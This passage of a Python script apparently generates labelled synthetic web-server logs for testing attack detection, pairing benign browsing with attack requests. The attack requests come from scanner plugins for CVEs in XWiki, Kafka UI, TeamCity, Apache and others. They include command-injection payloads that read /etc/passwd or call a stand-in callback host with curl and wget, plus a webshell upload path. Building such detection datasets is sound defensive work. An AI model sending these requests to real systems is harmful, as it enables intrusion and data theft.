 ('Cve202017526Detector.java', 158, 'admin/airflow/paused?is_paused=true&dag_id=example_trigger_target_dag', 'POST', '/{LIT}', 'query+header', 'auth-bypass', 'CVE-2020-17526', 'unpause the example DAG with the forged session cookie'),
 ('RCEViaExposedSeleniumGridDetector.java', 378, '+ "/url";', 'POST', '/wd/hub/session/{HEX32}/url', 'body', 'exposed-ui', 'selenium_grid_rce_via_exposed_server', 'navigate the session to the file:// URL'),
 ('Cve202338646Detector.java', 67, '"api/session/properties"', 'GET', '/{LIT}', 'path', 'rce', 'CVE-2023-38646', 'setup-token read (step 1)'),
 ('GrafanaArbitraryFileReadingDetector.java', 68, '"public/plugins/{plugin}/..%2F..%2F..%2F..%2F.."', 'GET', '/{GRAFANA2}', 'path', 'traversal', 'CVE-2021-43798', 'loop over PLUGINS (another plugin)'),
 # --- templated/templateddetector/plugins
 ('ApacheHTTPd_CVE_2021_41773.textproto', 39, 'uri: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh"', 'POST', '{LIT}', 'path+body', 'rce', 'CVE-2021-41773', 'trigger_rce'),
 ('VMWareVCenter_CVE_2021_21972.textproto', 41, 'uri: "/ui/vropspluginui/rest/services/uploadova"', 'POST', '{LIT}', 'path', 'cve-exploit', 'CVE-2021-21972', 'is_vcenter_vulnerable'),
 ('Sophos_CVE_2022_1040.textproto', 59, 'uri: "/webconsole/Controller"', 'POST', '{LIT}', 'body', 'auth-bypass', 'CVE-2022-1040', 'attempt_authentication_bypass'),
 ('H2o_CVE_2023_6018.textproto', 40, 'uri: "/3/ModelBuilders/generic"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2023-6018', 'trigger_code_execution'),
 ('MLFlow_CVE_2023_6977.textproto', 89, 'uri: "/model-versions/get-artifact?path=etc/passwd&name={{ model_name }}&version=1"', 'GET', '/model-versions/get-artifact?path=etc/passwd&name={MODEL}&version=1', 'query', 'traversal', 'CVE-2023-6977', 'read_file'),
 ('ApachePinot_CVE_2024_56325.textproto', 57, 'uri: "/tables;."', 'GET', '{LIT}', 'path', 'auth-bypass', 'CVE-2024-56325', 'check_auth_bypass'),
 ('Cyberpanel_CVE_2024_51568.textproto', 60, 'uri: "/dataBases/upgrademysqlstatus"', 'PUT', '{LIT}', 'body', 'rce', 'CVE-2024-51568', 'trigger_code_execution'),
 ('JetBrainsTeamCity_CVE_2024_27198.textproto', 56, 'uri: "/hax?jsp=/app/rest/users;.jsp"', 'POST', '{LIT}', 'query+body', 'auth-bypass', 'CVE-2024-27198', 'create_admin_user'),
 ('JetBrainsTeamCity_CVE_2024_27198.textproto', 82, 'uri: "/hax?jsp=/app/rest/users/id:{{ userid }}/tokens/testtoken;.jsp"', 'POST', '/hax?jsp=/app/rest/users/id:{NUM}/tokens/testtoken;.jsp', 'query', 'auth-bypass', 'CVE-2024-27198', 'create_admin_token'),
 ('LlamaFactory_CVE_2024_52803.textproto', 57, 'uri: "/queue/join"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2024-52803', 'join_queue_with_payload'),
 ('DocsGPT_CVE_2025_0868.textproto', 40, 'uri: "/api/remote"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2025-0868', 'trigger_code_execution'),
 ('Jenkins_CVE_2025_47889.textproto', 60, 'uri: "/j_acegi_security_check"', 'POST', '{LIT}', 'body', 'auth-bypass', 'CVE-2025-47889', 'login_with_arbitrary_credentials'),
 ('KafkaUi_CVE_2023_52251.textproto', 94, 'messages?q=new ProcessBuilder(\\"wget\\",\\"{{ T_CBS_URI }}\\").start()&filterQueryType=GROOVY_SCRIPT', 'GET', '/api/clusters/local/topics/tsunami-security-scanner/messages?q=new ProcessBuilder("wget","{CB}").start()&filterQueryType=GROOVY_SCRIPT', 'query', 'rce', 'CVE-2023-52251', 'trigger_code_execution'),
 ('Langflow_CVE_2025_3248.textproto', 55, 'uri: "/api/v1/validate/code"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2025-3248', 'trigger_code_execution'),
 ('MCP_Inspector_CVE_2025_49596.textproto', 55, 'uri: "/sse?transportType=stdio&command=curl&args={{ T_CBS_URI }}"', 'GET', '/sse?transportType=stdio&command=curl&args={CB}', 'query', 'rce', 'CVE-2025-49596', 'trigger_code_execution'),
 ('Nexus_CVE_2024_4956.textproto', 57, 'uri: "/%2f%2f%2f%2f', 'GET', '{LIT}', 'path', 'traversal', 'CVE-2024-4956', 'trigger_arbitrary_file_read'),
 ('Ofbiz_CVE_2023_51467.textproto', 59, 'uri: "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y"', 'POST', '{LIT}', 'query+body', 'auth-bypass', 'CVE-2023-51467', 'trigger_rce'),
 ('ReactNativeCli_CVE_2025_11953.textproto', 53, 'uri: "/open-url"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2025-11953', 'trigger_code_execution'),
 ('ReactServerComponents_CVE_2025_55182.textproto', 43, 'uri: "/"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2025-55182', 'cve_2025_55182_trigger_code_execution'),
 ('Tikiwiki_CVE_2025_34111.textproto', 56, 'uri: "/vendor_extra/elfinder/php/connector.minimal.php"', 'POST', '{LIT}', 'body', 'rce', 'CVE-2025-34111', 'tikiwiki_upload_php_webshell'),
 ('Tikiwiki_CVE_2025_34111.textproto', 76, 'uri: "/vendor_extra/elfinder/files/tsunami_security_scan.php"', 'GET', '{LIT}', 'path', 'rce', 'CVE-2025-34111', 'tikiwiki_trigger_code_execution'),
 ('XWiki_CVE_2025_24893.textproto', 66, 'bin/get/Main/SolrSearch?media=rss&text=', 'GET', '/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln%28%27cat+/etc/passwd%27.execute().text%29%7B%7B%2Fgroovy%7D%7D%7B%7B%2Fasync%7D%7D', 'query', 'rce', 'CVE-2025-24893', 'xwiki_exploit (basePath empty, Linux payload)'),
 ('ApacheLivy_ExposedUI.textproto', 51, 'uri: "/batches"', 'POST', '{LIT}', 'body', 'exposed-ui', 'ApacheLivy_ExposedUI', 'create_batches'),
 ('ApachePinot_ExposedUI.textproto', 52, 'uri: "/tables"', 'GET', '{LIT}', 'path', 'exposed-ui', 'ApachePinot_ExposedUI', 'read_tables'),
 ('Dtale_ExposedUI.textproto', 82, 'uri: "/dtale/chart-data/{{ dataid }}?query={{ payload }}"', 'GET', '/dtale/chart-data/{NUM}?query={DTALEX}', 'query', 'exposed-ui', 'Dtale_ExposedUI', 'trigger_code_execution'),
 ('Flowable_ExposedUI.textproto', 52, 'uri: "/flowable-rest/service/repository/deployments"', 'POST', '{LIT}', 'body', 'exposed-ui', 'Flowable_ExposedUI', 'deploy_tsunami_process'),
 ('HashicorpNomad_ExposedUI.textproto', 52, 'uri: "/v1/jobs"', 'POST', '{LIT}', 'body', 'exposed-ui', 'HashicorpNomad_ExposedUI', 'create_tsunami_job'),
 ('Joomla_ExposedUI.textproto', 37, 'uri: "/installation/index.php"', 'GET', '{LIT}', 'path', 'exposed-ui', 'Joomla_ExposedUI', 'is_joomla_install_exposed'),
 ('K8s_ExposeUI.textproto', 76, 'uri: "/api/v1/appdeploymentfromfile"', 'POST', '{LIT}', 'body', 'exposed-ui', 'K8s_ExposeUI', 'trigger_code_execution'),
 ('Kestra_ExposedUI.textproto', 57, 'uri: "/api/v1/main/flows"', 'POST', '{LIT}', 'body', 'exposed-ui', 'Kestra_ExposedUI', 'create_tsunami_flow'),
 ('N8N_ExposedRestApi.textproto', 93, 'uri: "/rest/workflows"', 'GET', '{LIT}', 'path', 'exposed-ui', 'N8N_ExposedRestApi', 'n8n_retrieve_existing_flows'),
 ('NodeRED_ExposedUI.textproto', 63, 'uri: "/flows"', 'POST', '{LIT}', 'body', 'exposed-ui', 'NodeRED_ExposedUI', 'hijack_flows'),
 ('OmnilabATS_ExposedUI.textproto', 60, 'uri: "/_ah/api/mtt/v1/builds"', 'POST', '{LIT}', 'body', 'exposed-ui', 'OmnilabATS_ExposedUI', 'omnilab_ats_exposed_ui_create_build'),
 ('Supabase_ExposedUI.textproto', 54, 'uri: "/api/platform/pg-meta/default/query?key="', 'POST', '{LIT}', 'body', 'exposed-ui', 'Supabase_ExposedUI', 'trigger_code_execution'),
]
# ----------------------------------------------------------------- user agents, statuses, sizes, escaping
# (copied from ../thirdparty20/gen.py, which took them from ../thirdparty19: the User-Agent strings, the sizes, nginx's escaping)
# Desktop browsers current at the start of December 2026 (the strings of ../thirdparty16 and 17).
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chw4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffw6': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Safari/605.1.15",
 'sfm0': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
 'edg4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0",
 'edm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
 # phones: benign traffic only
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Mobile Safari/537.36",
}
DESKTOP = ['chw', 'chw', 'chw', 'chw4', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffw6', 'ffm', 'ffl',
           'sfm', 'sfm', 'sfm0', 'edg', 'edg', 'edg4', 'edm']
ANY_BROWSER = DESKTOP + ['ios', 'ios', 'and', 'and']

# An attack's status: a parameter probe against a live page is mostly answered, some fail
# (500) or are not found; a file probe is mostly not found or refused.
STATUS = {
    'param': [(200, 60), (500, 22), (404, 18)],
    'path': [(404, 50), (403, 25), (200, 15), (500, 10)],
}

def weighted(r, pairs):
    x = r.random() * sum(w for _, w in pairs)
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]

ASSET_EXT = ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.woff2', '.ico', '.avif', '.gif')

def size(r, st, target='', method='GET'):
    path = target.split('?', 1)[0]
    if method == 'HEAD' or st == 304:
        return 0
    if st == 200 and path.endswith(ASSET_EXT):
        return r.randint(2400, 160000)
    if st == 200 and path.startswith('/api/'):
        return r.randint(90, 9000)
    if st == 200:
        return r.randint(1800, 42000)
    if st in (403, 404):
        return r.choice([153, 555])
    return r.randint(177, 4200)       # 500

def esc(s):
    """nginx's escaping of a logged field: '"', '\\' and bytes outside 0x20-0x7e as \\xXX"""
    out = []
    for c in s.encode('utf-8', 'surrogateescape'):
        if c == 0x22 or c == 0x5c or c < 0x20 or c > 0x7e:
            out.append('\\x%02X' % c)
        else:
            out.append(chr(c))
    return ''.join(out)

def line(ip, t, request, st, sz, ref, ua, header_esc=esc):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(request),
                                                st, sz, header_esc(ref), header_esc(ua))


# ----------------------------------------------------------------- benign browsing
# (the skeleton and most sites from ../thirdparty18/gen.py)  Each benign source is one person
# with one browser on one of five kinds of site: a page, its assets (with the page as Referer,
# some revalidated as 304), then more pages, searches or API calls.  Several requests brush
# against the attack types without being attacks: products called "Select Fit Chinos" or
# "Red Alert Beanie", searches for select, script, union, alert, people called O'Connor /
# O'Reilly / O'Brien (the apostrophe raw or encoded), blog posts about .env files and
# /etc/passwd, docs pages about printf format strings (%s, %n, %x) and searches for them,
# docs pages reached from a wiki whose URL carries a relative "../" path (Referer).  The i-th
# source of a kind takes the i-th near-miss.
def qp(s):
    return urllib.parse.quote_plus(s)

def qc(s):
    """encodeURIComponent: leaves A-Z a-z 0-9 - _ . ! ~ * ' ( ) as they are"""
    return urllib.parse.quote(s, safe="-_.!~*'()")

SHOP = 'https://shop.example.net'
SHOP_ITEMS = ['select-fit-chinos', 'union-canvas-tote', 'script-lettering-mug', 'red-alert-beanie',
              'drop-shoulder-hoodie', 'exec-leather-folio', 'cat-eye-sunglasses', 'linen-table-runner']
SHOP_CATS = ['trousers', 'bags', 'kitchen', 'hats', 'hoodies', 'leather', 'eyewear', 'kitchen']   # of SHOP_ITEMS
SHOP_Q = ['select fit chinos', 'union canvas tote', 'script lettering mug', 'red alert beanie']

def shop(r, i):
    cat, item = SHOP_CATS[i], SHOP_ITEMS[i]
    first = r.choice(['-', 'https://www.google.com/', 'https://duckduckgo.com/', 'https://www.bing.com/'])
    out = [('GET', '/', first, 200),
           ('GET', '/static/shop.5b7e01.css', SHOP + '/', 200),
           ('GET', '/static/shop.c90d3a.js', SHOP + '/', 200)]
    if i % 2 == 0:
        via = '/search?q=' + qp(SHOP_Q[i // 2]) + '&sort=relevance'
    else:
        via = '/c/' + cat + '?page=' + str(r.randint(1, 3))
    out.append(('GET', via, SHOP + '/', 200))
    out.append(('GET', '/p/' + item, SHOP + via, 200))
    out.append(('GET', '/media/p/%s/800w.avif' % item, SHOP + '/p/' + item, 200))
    if i % 4 == 1:
        name = ["Siobhan O'Connor", "Dara O'Reilly"][i // 4]
        out.append(('GET', '/api/reviews?sku=%s&author=%s' % (item, qc(name)), SHOP + '/p/' + item, 200))
    if i % 4 == 3:
        out.append(('POST', '/basket/add', SHOP + '/p/' + item, 200))
    return out

BLOG = 'https://notes.example.org'
BLOG_POSTS = ['2026/11/why-your-.env-file-ended-up-on-github', '2026/10/reading-etc-passwd-without-fear',
              '2026/09/select-star-considered-harmful', '2026/11/alert-fatigue-and-how-we-fixed-it',
              '2026/08/union-types-for-humans', '2026/10/shell-scripting-with-arrays']
BLOG_Q = ['alert fatigue', '.env', "o'reilly", 'union types']

def blog(r, i):
    post = BLOG_POSTS[i % len(BLOG_POSTS)]
    url = '/%s/' % post
    ref = r.choice(['https://www.google.com/', 'https://news.ycombinator.com/', '-', 'https://mastodon.social/'])
    out = [('GET', url, ref, 200),
           ('GET', '/assets/main.8f21.css', BLOG + url, 200),
           ('GET', '/assets/fonts/inter-var.woff2', BLOG + '/assets/main.8f21.css', 200),
           ('GET', '/assets/img/%s.jpg' % post.rsplit('/', 1)[-1], BLOG + url, 200)]
    if i % 2:
        out.append(('GET', '/search/?q=' + qp(BLOG_Q[i // 2]), BLOG + url, 200))
    out.append(('GET', '/tags/security/', BLOG + url, 200))
    other = r.choice([p for p in BLOG_POSTS if p != post])
    out.append(('GET', '/%s/' % other, BLOG + '/tags/security/', 200))
    return out

DOCS = 'https://docs.example.org'
DOC_PAGES = ['/manual/sql/select-and-union', '/manual/html/script-element', '/manual/c/printf-format-strings',
             '/manual/linux/etc-passwd-fields', '/manual/c/format-specifiers-%25s-%25d-%25x', '/manual/config/dotenv',
             '/manual/js/alert-confirm-prompt', '/manual/python/str-format-%25-operator']
DOC_Q = ['select statement', 'script defer', 'printf %s %d', 'alert dialog', '/etc/passwd fields',
         '%n format specifier', "O'Reilly", '.env file']
# an intranet wiki and a markdown preview link to the docs; their own URLs carry a relative
# path with ../ in the query (browsers resolve ../ in a path, not in a query)
DOC_EXT_REF = ['https://wiki.example.com/view?page=../handbook/onboarding&rev=12',
               'https://preview.example.com/render?file=docs/../README.md',
               'https://wiki.example.com/view?page=team/../../shared/tooling']

def docs(r, i):
    p1, p2 = DOC_PAGES[i], r.choice([p for p in DOC_PAGES if p != DOC_PAGES[i]])
    first = DOC_EXT_REF[i // 3] if i % 3 == 0 else r.choice(['-', 'https://www.google.com/'])
    out = [('GET', '/manual/', first, 200),
           ('GET', '/_static/theme.31ad.css', DOCS + '/manual/', 200),
           ('GET', '/_static/search.31ad.js', DOCS + '/manual/', 200),
           ('GET', '/search?q=' + qp(DOC_Q[i]) + '&check_keywords=yes', DOCS + '/manual/', 200),
           ('GET', p1, DOCS + '/search', 200)]
    if i % 2 == 0:
        out.append(('GET', '/_static/searchindex.js', DOCS + '/search', 200))
    out.append(('GET', p2, DOCS + p1, 200))
    return out

FORUM = 'https://talk.example.net'
FORUM_THREADS = ['t/how-do-i-union-two-select-queries/7312', 't/alert-box-never-shows-on-safari/7409',
                 't/script-runs-twice-after-navigation/7550', 't/what-is-the-x-in-etc-passwd/7188',
                 't/dropped-a-table-by-mistake-any-way-back/7621', 't/env-file-not-loaded-in-docker/7705']
FORUM_USERS = ['niamh.ohara', 'p_oreilly', 'select_all_sam', 'unionjack']

def forum(r, i):
    th = FORUM_THREADS[i % len(FORUM_THREADS)]
    tid = th.rsplit('/', 1)[-1]
    out = [('GET', '/latest', r.choice(['-', 'https://www.google.com/']), 200),
           ('GET', '/assets/app-2c9e.css', FORUM + '/latest', 200),
           ('GET', '/assets/app-2c9e.js', FORUM + '/latest', 200),
           ('GET', '/' + th, FORUM + '/latest', 200),
           ('GET', '/%s.json?track_visit=true' % th, FORUM + '/' + th, 200)]
    if i % 2 == 0:
        out.append(('GET', '/u/%s/summary' % FORUM_USERS[i // 2], FORUM + '/' + th, 200))
    else:
        q = ["O'Hara", 'union select', 'alert not showing', 'script twice'][i // 2]
        out.append(('GET', '/search?q=' + qc(q), FORUM + '/' + th, 200))
    out.append(('GET', '/t/%s/posts.json?post_ids%%5B%%5D=%d' % (tid, r.randint(30000, 39999)), FORUM + '/' + th, 200))
    return out

HELP = 'https://help.example.com'
HELP_Q = ["O'Brien", "O'Neill", "D'Souza", 'select plan', 'union dues', 'alert emails', 'script error', 'drop shipping']

def helpdesk(r, i):
    a = HELP + '/agent/'
    tid = r.randint(40000, 49999)
    out = [('GET', '/agent/', r.choice(['-', HELP + '/login']), 200),
           ('GET', '/agent/static/desk.e4b1.js', a, 200),
           ('GET', '/agent/static/desk.77f0.css', a, 200),
           ('GET', '/api/v2/views?active=true', a, 200),
           ('GET', '/api/v2/tickets?view=open&per_page=25', a, 200),
           ('GET', '/api/v2/search?q=%s&type=ticket' % qc(HELP_Q[i]), a + 'search', 200)]
    extra = [('GET', '/api/v2/tickets/%d' % tid, a + 'tickets/%d' % tid, 200),
             ('PATCH', '/api/v2/tickets/%d' % tid, a + 'tickets/%d' % tid, 200),
             ('GET', '/api/v2/users?query=%s' % qp(HELP_Q[i].split()[0]), a + 'tickets/%d' % tid, 200)]
    out += r.sample(extra, 1 + i % 2)
    return out

BENIGN_KINDS = [('shop-browse', shop, 8), ('blog-reader', blog, 8), ('docs-search', docs, 8),
                ('forum-reader', forum, 8), ('helpdesk-json-api', helpdesk, 8)]





# ----------------------------------------------------------------- addresses (from ../thirdparty20/gen.py)
def other_sets_addresses():
    here = os.path.basename(OUT)
    others = set()
    logs = glob.glob(os.path.join(OUT, '..', '*', '*.log')) + \
        glob.glob(os.path.join(ROOT, 'tests', 'e2e', 'data', '**', '*.log'), recursive=True)
    for f in sorted(logs):
        if os.path.basename(os.path.dirname(f)) == here:
            continue
        with open(f, encoding='utf-8', errors='replace') as fh:
            for l in fh:
                others.add(l.split(' ', 1)[0])
    return others

def pick_v6(r, used, net):
    while True:
        base = int(net.network_address)
        if r.random() < 0.75:
            v = base + (r.getrandbits(16) << 64) + r.getrandbits(64)      # random interface id
        else:
            v = base + (r.getrandbits(16) << 64) + r.randint(1, 0x3ff)    # a small static address
        ip = ipaddress.IPv6Address(v).compressed
        if ip not in used:
            used.add(ip)
            return ip

def ipkey(s):
    ip = ipaddress.ip_address(s)
    return (ip.version, int(ip))

# ----------------------------------------------------------------- checks
FIELD = r'((?:[\x20\x21\x23-\x5b\x5d-\x7e]|\\x[0-9A-F]{2})*)'
LOG_RX = re.compile(r'^(\S+) - - \[(\d{2}/[A-Z][a-z]{2}/\d{4}:\d{2}:\d{2}:\d{2} \+0000)\] "' + FIELD +
                    r'" (\d{3}) (\d+) "' + FIELD + r'" "' + FIELD + r'"$')
REQ_RX = re.compile(r'^([A-Z]+) (/[\x21-\x7e]*) HTTP/1\.1$')
UA_DESKTOP = re.compile(r'^Mozilla/5\.0 \((Windows NT 10\.0; Win64; x64|Macintosh; Intel Mac OS X [\d_.]+|X11; Linux x86_64)')

def check(others=None):
    ok = True
    def bad(msg):
        nonlocal ok
        ok = False
        print('check: ' + msg)
    addrs, cats = {}, {}
    for kind in ('attacks', 'benign'):
        net = ATTACK_NET if kind == 'attacks' else BENIGN_NET
        with open(os.path.join(OUT, kind + '.log'), encoding='ascii') as f:
            rows = f.read().split('\n')
        if rows[-1] != '':
            bad('%s.log does not end with a newline' % kind)
        prev = None
        seen = collections.Counter()
        for n, l in enumerate(rows[:-1], 1):
            m = LOG_RX.match(l)
            if not m:
                bad('%s.log:%d does not parse as combined' % (kind, n))
                continue
            ip, ts, req, st, ref, ua = m.group(1), m.group(2), m.group(3), m.group(4), m.group(6), m.group(7)
            try:
                if ipaddress.ip_address(ip) not in net:
                    bad('%s.log:%d address %s is not in %s' % (kind, n, ip, net))
            except ValueError:
                bad('%s.log:%d bad address %r' % (kind, n, ip))
            if not REQ_RX.match(req):
                bad('%s.log:%d request line has a raw space or a bad form: %s' % (kind, n, req[:80]))
            t = datetime.datetime.strptime(ts, '%d/%b/%Y:%H:%M:%S +0000')
            if t.date() != DAY.date() or (prev and t < prev):
                bad('%s.log:%d time out of order or off the day' % (kind, n))
            prev = t
            if kind == 'attacks':
                if req.split(' ', 1)[0] not in ('GET', 'POST', 'PUT'):
                    bad('attacks.log:%d method not GET/POST/PUT' % n)
                if ref != '-':
                    bad('attacks.log:%d Referer is not -' % n)
                if not UA_DESKTOP.match(ua):
                    bad('attacks.log:%d User-Agent %r is not a desktop browser' % (n, ua[:40]))
                if st not in ('200', '403', '404', '500'):
                    bad('attacks.log:%d status %s' % (n, st))
            seen[ip] += 1
        labels = collections.Counter()
        with open(os.path.join(OUT, kind + '.labels'), encoding='ascii') as f:
            for l in f.read().split('\n')[:-1]:
                parts = l.split('\t')
                want = 4 if kind == 'attacks' else 3
                if len(parts) != want or parts[1] != ('attack' if kind == 'attacks' else 'benign'):
                    bad('%s.labels: bad line %r' % (kind, l))
                    continue
                labels[parts[0]] += 1
                if kind == 'attacks':
                    cats[parts[0]] = parts[2]
                    if parts[2] not in CATEGORIES:
                        bad('attacks.labels: unknown category %r' % parts[2])
        if set(labels) != set(seen) or any(v != 1 for v in labels.values()):
            bad('%s.labels do not cover the addresses of %s.log exactly once' % (kind, kind))
        if kind == 'attacks' and any(v != 1 for v in seen.values()):
            bad('an attacking source sends more than one request')
        addrs[kind] = set(seen)
        print('check: %s.log %d lines, %d sources, all parse' % (kind, sum(seen.values()), len(seen)))
    with open(os.path.join(OUT, 'requests.tsv'), encoding='ascii') as f:
        rows = f.read().split('\n')
    head = rows[0].split('\t')
    tsv = {}
    for x in rows[1:-1]:
        c = dict(zip(head, x.split('\t')))
        if len(c) != len(head) or len(x.split('\t')) != len(head):
            bad('requests.tsv: a row with %d fields' % len(x.split('\t')))
        tsv[c['ADDRESS']] = c
    if set(tsv) != addrs['attacks']:
        bad('requests.tsv does not have one row per attacking address')
    with open(os.path.join(OUT, 'attacks.log'), encoding='ascii') as f:
        for l in f:
            m = LOG_RX.match(l.rstrip('\n'))
            if m and m.group(1) in tsv and tsv[m.group(1)]['REQUEST_LINE'] != m.group(3):
                bad('requests.tsv: request line of %s differs from the log' % m.group(1))
    both = addrs['attacks'] & addrs['benign']
    if both:
        bad('%d addresses are both attack and benign' % len(both))
    if others is None:
        others = other_sets_addresses()
    clash = (addrs['attacks'] | addrs['benign']) & others
    print('check: %d addresses here, %d in other sets\' logs, %d shared, %d attack/benign overlap'
          % (len(addrs['attacks'] | addrs['benign']), len(others), len(clash), len(both)))
    if clash:
        bad('shared with other sets: %s' % ' '.join(sorted(clash)[:10]))
    blk = BLOCK
    def in_blk(a):
        try:
            return ipaddress.ip_address(a) in blk
        except ValueError:
            return False
    theirs = sorted(a for a in others if in_blk(a))
    print('check: %d addresses of other sets in %s' % (len(theirs), blk))
    if theirs:
        bad('other sets use %s: %s' % (blk, ' '.join(theirs[:10])))
    print('check: categories %s' % ', '.join('%s %d' % (c, n) for c, n in
                                             sorted(collections.Counter(cats.values()).items())))
    return ok




# Plugins with no row, and why (every detector directory at the commit is either used above or listed here).
LEFT_OUT = collections.OrderedDict([
 ('community/detectors/erlangotp_cve_2025_32433', 'not HTTP (SSH protocol)'),
 ('community/detectors/redis_cve_2022_0543', 'not HTTP (Redis protocol)'),
 ('community/detectors/atlassian_bitbucket_dc_cve_2022_26133', 'not HTTP (raw TCP to the cluster port, serialized object)'),
 ('community/detectors/flyte_exposed_console', 'payload sent over gRPC (FlyteProtoClient); the HTTP request is only GET /console'),
 ('community/detectors/apache_dolphin_scheduler_exposed_java_gateway', 'payload sent over the Py4J gateway (raw TCP); HTTP only for the UI fingerprint'),
 ('doyensec/detectors/rocketmq_rce_cve_2023_33246', 'not HTTP (RocketMQ remoting protocol)'),
 ('google/detectors/rce/redis', 'not HTTP (Redis protocol)'),
 ('google/detectors/rce/java_jmx', 'not HTTP (JMX / RMI)'),
 ('google/detectors/rce/tomcat/ghostcat', 'not HTTP (AJP protocol)'),
 ('google/detectors/rce/cve20199193', 'not HTTP (PostgreSQL protocol)'),
 ('google/detectors/directorytraversal/generic_path_traversal_detector', 'payloads are placed into the crawled URLs of the scanned site (no fixed request); left out rather than invented'),
 ('google/detectors/exposedui/apache_flink', 'probe is GET of the site root (the #/submit fragment is not sent): nothing to log'),
 ('google/detectors/exposedui/elasticsearch', 'probe is GET of the site root: nothing to log'),
 ('google/detectors/rce/joomla/cve20158562', 'payload only in the User-Agent header of a GET of the site root (a browser UA is logged instead)'),
 ('google/detectors/rce/cve20175638', 'payload only in the Content-Type header of a request to the site root'),
])
# header-only plugins that ARE in the set keep a specific path (shellshock cgi paths, Nacos, Flowise, Tomcat manager, Spring Cloud Function)

CATEGORIES = sorted({'rce', 'exposed-ui', 'auth-bypass', 'traversal', 'cve-exploit', 'info-disclosure',
                     'default-credentials', 'xxe'})

# ----------------------------------------------------------------- Java / textproto string literals
LIT_RX = re.compile(r'"((?:[^"\\]|\\.)*)"')

def unescape(s):
    out, i = [], 0
    while i < len(s):
        c = s[i]
        if c == '\\' and i + 1 < len(s):
            n = s[i + 1]
            if n == 'u':
                out.append(chr(int(s[i + 2:i + 6], 16))); i += 6; continue
            out.append({'n': '\n', 't': '\t', 'r': '\r', '0': '\0'}.get(n, n)); i += 2; continue
        out.append(c); i += 1
    return ''.join(out)

def lits_on(text_line):
    return ''.join(unescape(m.group(1)) for m in LIT_RX.finditer(text_line))

def const_from(repo, path, n):
    """the literals from line n up to the line ending the statement or list element (';' or ',')"""
    lines = repo.show(path).split('\n')
    out = []
    for i in range(n - 1, len(lines)):
        out.append(lits_on(lines[i]))
        if lines[i].rstrip().endswith((';', ',')):
            break
    return ''.join(out)

def find_line(repo, name, quote):
    path = repo.resolve(name)
    for n, l in enumerate(repo.show(path).split('\n'), 1):
        if quote in l:
            return path, n
    sys.exit('%r not found in %s' % (quote, path))


# ----------------------------------------------------------------- Tsunami's payloads, filled from FILL_SEED
ALNUM = 'abcdefghijklmnopqrstuvwxyz0123456789'

class Fill:
    def __init__(self, repo):
        self.r = random.Random(FILL_SEED)
        self.repo = repo
        # one callback server for the scan (Tsunami's tcs listens on 8881 by default); the address is made up
        self.cb_host = '203.0.113.%d:8881' % self.r.randint(20, 240)
    def token(self, n=8):
        return ''.join(self.r.choice(ALNUM) for _ in range(n))
    def secret(self):
        return hashlib.sha3_224(self.r.getrandbits(128).to_bytes(16, 'big')).hexdigest()
    def row(self, callback):
        """the values of one plugin run; callback: whether this run used the callback payload"""
        r = self.r
        # Tsunami's callback URI is host:port/secret, without a scheme (TeamCity's plugin splits
        # `curl URI` and prefixes http:// itself); templated plugins get it as {{ T_CBS_URI }}
        cb = '%s/%s' % (self.cb_host, self.secret())
        cmdc = 'curl ' + cb
        cmdp = 'printf %%s%%s%%s TSUNAMI_PAYLOAD_START %s TSUNAMI_PAYLOAD_END' % self.token(8)
        cmd = cmdc if callback else cmdp
        return {
            'CMD': cmd, 'CMDF': urllib.parse.quote_plus(cmd), 'CMD20': cmd.replace(' ', '%20'),
